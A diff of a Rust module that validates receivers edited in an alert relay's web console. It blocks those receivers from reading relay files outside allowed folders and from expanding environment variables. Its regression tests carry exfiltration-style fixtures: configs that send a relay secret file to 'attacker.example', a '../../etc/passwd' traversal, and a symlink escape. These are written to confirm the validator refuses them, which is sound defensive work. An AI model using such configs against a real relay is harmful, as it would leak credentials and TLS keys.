@@ -3,13 +3,18 @@
 //! and shared templates of the config file's `delivery:` and `templates:`.
 //!
 //! The config file stays the source of truth: a name defined in both is an error recorded in
-//! [`ConsoleConfig::conflicts`], and the config file's receiver is the one used. The console
-//! file is never expanded from the process environment (`${VAR}` is an error there): what a
-//! console user types must not be able to read the relay's environment.
+//! [`ConsoleConfig::conflicts`], and the config file's receiver is the one used.
+//!
+//! What a console user types must not be able to read the relay: the console file is never
+//! expanded from the process environment (`${VAR}` is kept as written), and its validation reads
+//! no file at all — whatever the key — unless it lies under `console.allowed_file_dirs`
+//! ([`ConsolePolicy`]): TLS material is given inline as PEM, secrets typed in.
 
 use std::path::{Path, PathBuf};
 
-use super::raw::RawConsoleFile;
+use serde_saphyr::Spanned;
+
+use super::raw::{RawConsole, RawConsoleFile};
 use super::{Config, ConfigError, DeliveryConfig, Environment, Issue, ReceiverConfig};
 use crate::fingerprint::fnv1a;
 
@@ -65,6 +70,49 @@ pub fn console_file(flag: Option<&Path>, delivery: &DeliveryConfig) -> ConsoleFi
     }
 }
 
+/// The receivers this console may hold; 100 unless `console.max_receivers` says otherwise.
+pub const DEFAULT_MAX_RECEIVERS: usize = 100;
+
+/// `console:` — what receivers edited in the console may do.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct ConsolePolicy {
+    /// Folders (absolute, as written after resolving against the config file's folder) whose
+    /// files a console receiver may name. Empty: it may name none.
+    pub allowed_file_dirs: Vec<PathBuf>,
+    /// Receivers the console may create at most.
+    pub max_receivers: usize,
+}
+
+impl Default for ConsolePolicy {
+    fn default() -> Self {
+        ConsolePolicy { allowed_file_dirs: Vec::new(), max_receivers: DEFAULT_MAX_RECEIVERS }
+    }
+}
+
+/// Validates `console:`.
+pub(super) fn policy(issues: &mut super::issues::Issues, raw: Option<&Spanned<RawConsole>>) -> ConsolePolicy {
+    let mut policy = ConsolePolicy::default();
+    let Some(spanned) = raw else {
+        return policy;
+    };
+    let at = &spanned.referenced;
+    for (index, dir) in spanned.value.allowed_file_dirs.iter().enumerate() {
+        let field = format!("console.allowed_file_dirs[{index}]");
+        let resolved = issues.resolve(dir);
+        match resolved.canonicalize() {
+            Ok(dir) if dir.is_dir() && dir.parent().is_some() => policy.allowed_file_dirs.push(dir),
+            Ok(_) => issues.add(Some(at), field, format!("{dir:?} is not a folder below the root")),
+            Err(e) => issues.add(Some(at), field, format!("cannot use {}: {e}", resolved.display())),
+        }
+    }
+    match spanned.value.max_receivers {
+        Some(0) => issues.add(Some(at), "console.max_receivers", "must be greater than 0"),
+        Some(n) => policy.max_receivers = n,
+        None => {}
+    }
+    policy
+}
+
 /// The validated console file.
 #[derive(Debug, Clone)]
 pub struct ConsoleConfig {
@@ -79,36 +127,10 @@ pub struct ConsoleConfig {
     pub warnings: Vec<Issue>,
 }
 
-/// `*_file` keys whose file's content would be sent to the receiver (credentials, tokens,
-/// preset secrets, `url_file`), as field paths. Receivers edited in the console must not make
-/// the relay read its own files and send them where the editor chooses; the TLS files
-/// (`ca_file`, `cert_file`, `key_file`) are only used for the handshake and stay allowed.
-fn relay_files(text: &str) -> Vec<String> {
-    fn walk(value: &serde_json::Value, at: &str, out: &mut Vec<String>) {
-        match value {
-            serde_json::Value::Object(map) => {
-                for (key, inner) in map {
-                    let field = if at.is_empty() { key.clone() } else { format!("{at}.{key}") };
-                    if key.ends_with("_file") && !matches!(key.as_str(), "ca_file" | "cert_file" | "key_file") {
-                        out.push(field.clone());
-                    }
-                    walk(inner, &field, out);
-                }
-            }
-            serde_json::Value::Array(items) => {
-                for (index, inner) in items.iter().enumerate() {
-                    walk(inner, &format!("{at}[{index}]"), out);
-                }
-            }
-            _ => {}
-        }
-    }
-    let mut out = Vec::new();
-    if let Ok(value) = serde_saphyr::from_str::<serde_json::Value>(text) {
-        walk(&value, "", &mut out);
-    }
-    out
-}
+/// Why a console receiver may not name a file outside `console.allowed_file_dirs`.
+const CONSOLE_FILE_REFUSED: &str = "a console receiver reads no file on the relay (what it holds would be sent \
+     wherever the receiver points): type the secret itself, give TLS material inline as PEM (ca, cert, key), \
+     name a file under console.allowed_file_dirs, or define the receiver in the config file";
 
 /// Reads and validates the console file; a file that does not exist yet has no receivers.
 pub fn load_console(path: &Path, main: &Config) -> Result<ConsoleConfig, ConfigError> {
@@ -129,25 +151,14 @@ pub fn load_console(path: &Path, main: &Config) -> Result<ConsoleConfig, ConfigE
 pub fn console_from_str(text: &str, path: &Path, main: &Config) -> Result<ConsoleConfig, ConfigError> {
     let base_dir = path.parent().map(Path::to_owned).unwrap_or_default();
     let environment = Environment::empty();
+    // No properties: `${VAR}` is text here, kept as written.
     let raw: RawConsoleFile = if text.trim().is_empty() {
         RawConsoleFile::default()
     } else {
-        serde_saphyr::from_str_with_options(text, super::parse_options(&environment))
-            .map_err(|e| super::parse_error(path, &e))?
+        serde_saphyr::from_str(text).map_err(|e| super::parse_error(path, &e))?
     };
-    let mut issues = super::issues::Issues::new(&base_dir, text);
-    for field in relay_files(text) {
-        issues.list.push(Issue {
-            position: None,
-            field,
-            message: "a console receiver cannot name a file on the relay (a secret there would be sent \
-                      wherever the receiver points): type the secret itself, or define the receiver in the config file"
-                .into(),
-        });
-    }
-    if !issues.list.is_empty() {
-        return Err(ConfigError { file: path.to_owned(), issues: issues.list });
-    }
+    let mut issues = super::issues::Issues::new(&base_dir, text)
+        .reading_only_under(main.console.allowed_file_dirs.clone(), CONSOLE_FILE_REFUSED);
     let receivers = super::validate::receivers(&mut issues, &raw.receivers, &main.receiver_defaults, &environment);
     if !issues.list.is_empty() {
         return Err(ConfigError { file: path.to_owned(), issues: issues.list });
@@ -206,28 +217,78 @@ mod tests {
     }
 
     /// Regression (review): a console receiver naming a relay file as its bearer token sent that
-    /// file's content to the URL the editor chose.
+    /// file's content to the URL the editor chose; `http_headers.<H>.files` slipped past the old
+    /// key-name rule, and so did the relay's own mTLS identity (`cert_file`, `key_file`).
     #[test]
-    fn console_receivers_cannot_read_the_relays_files() {
+    fn console_receivers_read_no_file_on_the_relay_whatever_the_key() {
+        let dir = tempfile::tempdir().unwrap();
+        let secret = dir.path().join("token");
+        std::fs::write(&secret, "relay-secret\n").unwrap();
+        let secret = secret.display();
         let main = main_config("receivers: []\n");
         for (text, field) in [
             (
-                "receivers:\n  - name: c\n    url: 'https://attacker.example/'\n    http_config:\n      authorization: {credentials_file: /etc/amrelay/token}\n",
+                format!("receivers:\n  - name: c\n    url: 'https://attacker.example/'\n    http_config:\n      authorization: {{credentials_file: {secret}}}\n"),
                 "receivers[0].http_config.authorization.credentials_file",
             ),
-            ("receivers:\n  - {name: c, url_file: /etc/amrelay/url}\n", "receivers[0].url_file"),
+            (format!("receivers:\n  - {{name: c, url_file: {secret}}}\n"), "receivers[0].url_file"),
             (
-                "receivers:\n  - {name: c, url: 'https://x.example/', preset: pagerduty, preset_options: {routing_key_file: /k}}\n",
+                format!("receivers:\n  - {{name: c, url: 'https://x.example/', preset: pagerduty, preset_options: {{routing_key_file: {secret}}}}}\n"),
                 "receivers[0].preset_options.routing_key_file",
             ),
+            (
+                format!("receivers:\n  - name: c\n    url: 'https://attacker.example/'\n    http_config:\n      http_headers:\n        X-Stolen: {{files: [{secret}]}}\n"),
+                "files",
+            ),
+            (
+                format!("receivers:\n  - name: c\n    url: 'https://attacker.example/'\n    http_config: {{tls_config: {{cert_file: {secret}, key_file: {secret}}}}}\n"),
+                "cert_file",
+            ),
+            (
+                format!("receivers:\n  - name: c\n    url: 'https://x.example/'\n    http_config: {{tls_config: {{ca_file: {secret}}}}}\n"),
+                "ca_file",
+            ),
         ] {
-            let error = console_from_str(text, Path::new(CONSOLE), &main).unwrap_err();
-            assert_eq!(error.issues[0].field, field, "{error}");
-            assert!(error.to_string().contains("cannot name a file on the relay"), "{error}");
+            let error = console_from_str(&text, Path::new(CONSOLE), &main).unwrap_err();
+            assert!(error.issues.iter().any(|i| i.field.contains(field)), "{field}: {error}");
+            assert!(error.to_string().contains("reads no file on the relay"), "{error}");
+            assert!(!error.to_string().contains("relay-secret"), "{error}");
         }
-        let tls = "receivers:\n  - name: c\n    url: 'https://x.example/'\n    http_config: {tls_config: {ca_file: /nonexistent/ca.pem}}\n";
-        let error = console_from_str(tls, Path::new(CONSOLE), &main).unwrap_err().to_string();
-        assert!(!error.contains("cannot name a file"), "a CA file stays allowed: {error}");
+    }
+
+    /// `console.allowed_file_dirs` lets console receivers name files below those folders, and
+    /// only there: a link inside pointing outside is refused.
+    #[test]
+    fn allowed_file_dirs_admit_their_files_and_nothing_linked_out_of_them() {
+        let allowed = tempfile::tempdir().unwrap();
+        let outside = tempfile::tempdir().unwrap();
+        std::fs::write(allowed.path().join("token"), "team-token\n").unwrap();
+        std::fs::write(outside.path().join("relay"), "relay-secret\n").unwrap();
+        std::os::unix::fs::symlink(outside.path().join("relay"), allowed.path().join("link")).unwrap();
+        let main = main_config(&format!("console: {{allowed_file_dirs: ['{}']}}\n", allowed.path().display()));
+        let with = |file: &str| {
+            format!(
+                "receivers:\n  - name: c\n    url: 'https://x.example/'\n    http_config:\n      authorization: {{credentials_file: {}}}\n",
+                allowed.path().join(file).display()
+            )
+        };
+        let console = console_from_str(&with("token"), Path::new(CONSOLE), &main).unwrap();
+        assert!(matches!(&console.receivers[0].endpoint.auth, crate::config::Auth::Authorization { .. }));
+        let error = console_from_str(&with("link"), Path::new(CONSOLE), &main).unwrap_err();
+        assert!(error.to_string().contains("reads no file on the relay"), "{error}");
+        let error = console_from_str(&with("../../etc/passwd"), Path::new(CONSOLE), &main).unwrap_err();
+        assert!(error.to_string().contains("reads no file on the relay"), "{error}");
+    }
+
+    /// Regression (review): a `${…}` in a console value could not be stored (it was read as an
+    /// environment variable); it is text, kept as written, and reads no variable.
+    #[test]
+    fn dollar_braces_in_console_values_are_kept_as_written() {
+        let main = main_config("receivers: []\n");
+        let text = "receivers:\n  - name: c\n    url: 'http://127.0.0.1:1/'\n    headers:\n      X-Template: ${HOME}-$${X}\n";
+        let console = console_from_str(text, Path::new(CONSOLE), &main).unwrap();
+        let value = console.receivers[0].endpoint.headers[0].1.to_str().unwrap().to_owned();
+        assert_eq!(value, "${HOME}-$${X}");
     }
 
     #[test]
@@ -251,14 +312,6 @@ mod tests {
         // Only receivers: the rest of the schema belongs to the config file.
         let error = console_from_str("server: {listen_address: ':1'}\n", Path::new(CONSOLE), &main).unwrap_err();
         assert!(error.to_string().contains("server"), "{error}");
-    }
-
-    #[test]
-    fn the_console_file_never_reads_the_environment() {
-        let main = main_config("receivers: []\n");
-        let text = "receivers:\n  - name: c\n    url: http://127.0.0.1:1/\n    headers:\n      X-Key: ${HOME}\n";
-        let error = console_from_str(text, Path::new(CONSOLE), &main).unwrap_err();
-        assert!(error.to_string().contains("HOME"), "{error}");
     }
 
     #[test]
